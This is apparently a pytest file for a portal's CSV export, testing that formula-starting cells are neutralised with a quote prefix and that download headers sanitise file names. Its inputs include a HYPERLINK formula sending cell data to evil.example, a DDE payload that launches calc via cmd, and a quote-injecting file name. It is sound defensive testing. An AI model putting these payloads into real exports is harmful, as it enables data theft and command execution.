"""CSV exports cannot carry formulas into a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from portal.csvexport import attachment_headers, csv_rows, csv_text, safe_cell


@pytest.mark.parametrize(
    ("given", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A2,"Click")',
            '\'=HYPERLINK("https://evil.example/?"&A2,"Click")',
        ),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Ada = great", "Ada = great"),
        ("", ""),
        (None, ""),
        (True, "yes"),
    ],
)
def test_cells_that_could_start_a_formula_are_made_text(given: str | None, written: str) -> None:
    assert safe_cell(given) == written


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5


def test_a_whole_file_reads_back_with_every_cell_guarded() -> None:
    text = csv_text(
        ["name", "note"],
        [["=cmd|' /C calc'!A0", "fine, with a comma"], ['Bo "Quotes"', "line\nbreak"]],
    )
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [
        ["name", "note"],
        ["'=cmd|' /C calc'!A0", "fine, with a comma"],
        ['Bo "Quotes"', "line\nbreak"],
    ]
    # The header is guarded too, and streaming gives the same text line by line.
    assert list(csv_rows(["=x"], [])) == ["'=x\r\n"]


def test_download_headers_keep_the_file_name_plain() -> None:
    headers = attachment_headers('evil"; name.csv')
    assert headers["content-disposition"] == 'attachment; filename="evil---name.csv"'
    assert headers["cache-control"] == "no-store"
